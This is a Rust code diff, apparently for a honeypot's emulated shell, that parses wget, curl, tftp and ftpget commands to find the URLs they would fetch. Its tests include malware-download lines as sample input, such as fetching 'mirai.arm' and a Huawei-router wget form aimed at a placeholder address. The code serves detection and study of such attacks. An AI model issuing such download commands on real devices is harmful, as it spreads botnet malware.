@@ -102,6 +102,28 @@ fn bundled(words: &[Vec<u8>], flag: u8) -> Option<&[u8]> {
     None
 }
 
+/// Letters of wget's and curl's options that take a value.
+const OF_WGET: &[u8] = b"OoPUTtY";
+const OF_CURL: &[u8] = b"oHXdAumeFTbxcCDEKPQrtUwyYz";
+
+/// The addresses that a command would fetch, one that starts with the tool's name.
+pub(in crate::handlers) fn named_addresses(words: &[Vec<u8>]) -> Vec<String> {
+    let schemed = |addresses: Vec<&[u8]>| addresses.into_iter().map(with_scheme).collect();
+    match words.first().map_or(&b""[..], |word| base_name(word)) {
+        b"wget" => match (value_of(words, b'g'), value_of(words, b'r')) {
+            // That of Huawei's routers.
+            (Some(host), Some(remote)) => {
+                vec![format!("http://{}/{}", lossy(host), lossy(remote).trim_start_matches('/'))]
+            }
+            _ => schemed(addresses(words, OF_WGET)),
+        },
+        b"curl" => schemed(addresses(words, OF_CURL)),
+        b"tftp" => over_tftp(words).map(|(url, _)| url).into_iter().collect(),
+        b"ftpget" => over_ftp(words).map(|(url, _)| url).into_iter().collect(),
+        _ => Vec::new(),
+    }
+}
+
 /// Arguments that are neither options nor the values of options; a bundle's last letter may take one.
 fn addresses<'w>(words: &'w [Vec<u8>], with_values: &[u8]) -> Vec<&'w [u8]> {
     let mut found = Vec::new();
@@ -131,7 +153,7 @@ fn addresses<'w>(words: &'w [Vec<u8>], with_values: &[u8]) -> Vec<&'w [u8]> {
 }
 
 pub(super) fn wget(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
-    let urls = addresses(words, b"OoPUTtY");
+    let urls = addresses(words, OF_WGET);
     if urls.is_empty() {
         return usage(run, "wget", io);
     }
@@ -141,6 +163,9 @@ pub(super) fn wget(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
     let directory = value_of(words, b'P');
     for url in urls {
         let url = with_scheme(url);
+        if !["http://", "https://", "ftp://"].iter().any(|scheme| url.starts_with(scheme)) {
+            return run.fail(io, words, &format!("not an http or ftp url: {url}"));
+        }
         let (host, port) = host_and_port(&url);
         let name = file_name(&url).to_owned();
         let path = match (output, directory) {
@@ -166,7 +191,7 @@ pub(super) fn wget(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
 }
 
 pub(super) fn curl(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
-    let urls = addresses(words, b"oHXdAumeFTbxk");
+    let urls = addresses(words, OF_CURL);
     if urls.is_empty() {
         run.print_line(io.err, "curl: try 'curl --help' or 'curl --manual' for more information");
         return 2;
@@ -194,8 +219,8 @@ pub(super) fn curl(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
     0
 }
 
-/// BusyBox's `tftp -g -l LOCAL -r REMOTE HOST`, and `tftp HOST -c get REMOTE [LOCAL]` of others.
-pub(super) fn tftp(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
+/// The address and the local file of BusyBox's `tftp -g -l LOCAL -r REMOTE HOST`, and of others' `tftp HOST -c get REMOTE [LOCAL]`.
+fn over_tftp(words: &[Vec<u8>]) -> Option<(String, &[u8])> {
     let plain: Vec<&[u8]> = words.iter().skip(1).map(Vec::as_slice).collect();
     let get = plain.iter().position(|word| *word == b"get");
     let (host, port, remote, local) = if let Some(at) = get {
@@ -207,25 +232,29 @@ pub(super) fn tftp(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
         let (remote, local) = (value_of(words, b'r'), value_of(words, b'l'));
         (operands.first().copied(), operands.get(1).copied(), remote.or(local), local)
     };
-    let uploads = has_flag(words, b'p') && !has_flag(words, b'g');
-    let (Some(host), Some(remote)) = (host, remote) else { return usage(run, "tftp", io) };
+    let (host, remote) = (host?, remote?);
     let port = port.map_or_else(String::new, |port| format!(":{}", lossy(port)));
     let url = format!("tftp://{}{port}/{}", lossy(host), lossy(remote).trim_start_matches('/'));
-    if uploads {
+    Some((url, local.unwrap_or_else(|| base_name(remote))))
+}
+
+pub(super) fn tftp(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
+    let Some((url, local)) = over_tftp(words) else { return usage(run, "tftp", io) };
+    if has_flag(words, b'p') && !has_flag(words, b'g') {
         run.wait_about(300, 1_200);
         return run.fail(io, words, "timeout");
     }
-    let local = local.unwrap_or_else(|| base_name(remote));
     let target = if local == b"-" { Target::Output } else { Target::File(local) };
     u8::from(fetch(run, words, io, &url, "tftp", &target).is_none())
 }
 
-pub(super) fn ftpget(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
+/// The address and the local file of `ftpget HOST [LOCAL] REMOTE`.
+fn over_ftp(words: &[Vec<u8>]) -> Option<(String, &[u8])> {
     let operands = operands_beside(words, b"upP");
     let (host, local, remote) = match operands.as_slice() {
         [host, remote] => (*host, base_name(remote), *remote),
         [host, local, remote, ..] => (*host, *local, *remote),
-        _ => return usage(run, "ftpget", io),
+        _ => return None,
     };
     let login = match (value_of(words, b'u'), value_of(words, b'p')) {
         (Some(user), Some(password)) => format!("{}:{}@", lossy(user), lossy(password)),
@@ -233,7 +262,11 @@ pub(super) fn ftpget(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
         _ => String::new(),
     };
     let port = value_of(words, b'P').map_or_else(String::new, |port| format!(":{}", lossy(port)));
-    let url = format!("ftp://{login}{}{port}/{}", lossy(host), lossy(remote).trim_start_matches('/'));
+    Some((format!("ftp://{login}{}{port}/{}", lossy(host), lossy(remote).trim_start_matches('/')), local))
+}
+
+pub(super) fn ftpget(run: &mut Run<'_, '_>, words: &[Vec<u8>], io: Io) -> u8 {
+    let Some((url, local)) = over_ftp(words) else { return usage(run, "ftpget", io) };
     let target = if local == b"-" { Target::Output } else { Target::File(local) };
     u8::from(fetch(run, words, io, &url, "ftpget", &target).is_none())
 }
@@ -261,9 +294,25 @@ mod tests {
     }
 
     #[test]
+    fn every_tool_says_what_it_would_fetch() {
+        for (line, url) in [
+            ("/bin/wget 192.0.2.9/x", "http://192.0.2.9/x"),
+            ("wget -g 192.0.2.9 -l /tmp/x -r /bins/x", "http://192.0.2.9/bins/x"),
+            ("curl -k https://192.0.2.9/x", "https://192.0.2.9/x"),
+            ("curl -sSLo /tmp/x 192.0.2.9/x", "http://192.0.2.9/x"),
+            ("tftp -g -l x -r a/x 192.0.2.9", "tftp://192.0.2.9/a/x"),
+            ("tftp 192.0.2.9 -c get x", "tftp://192.0.2.9/x"),
+            ("ftpget -u a -p b 192.0.2.9 x y", "ftp://a:b@192.0.2.9/y"),
+        ] {
+            assert_eq!(named_addresses(&words(line)), [url], "{line}");
+        }
+        assert!(named_addresses(&words("tftp")).is_empty() && named_addresses(&words("ls http://x/")).is_empty());
+    }
+
+    #[test]
     fn addresses_and_their_files_are_found_among_options() {
         let line = words("wget -q http://192.0.2.9:81/bins/mirai.arm -O - --header X:y");
-        assert_eq!(addresses(&line, b"OoPUTtY"), [b"http://192.0.2.9:81/bins/mirai.arm"]);
+        assert_eq!(addresses(&line, OF_WGET), [b"http://192.0.2.9:81/bins/mirai.arm"]);
         assert_eq!(bundled(&line, b'O'), Some(&b"-"[..]));
         assert_eq!(bundled(&words("wget -qO- x"), b'O'), Some(&b"-"[..]));
         assert_eq!(file_name("http://192.0.2.9/a/b.sh?c=/d"), "b.sh");
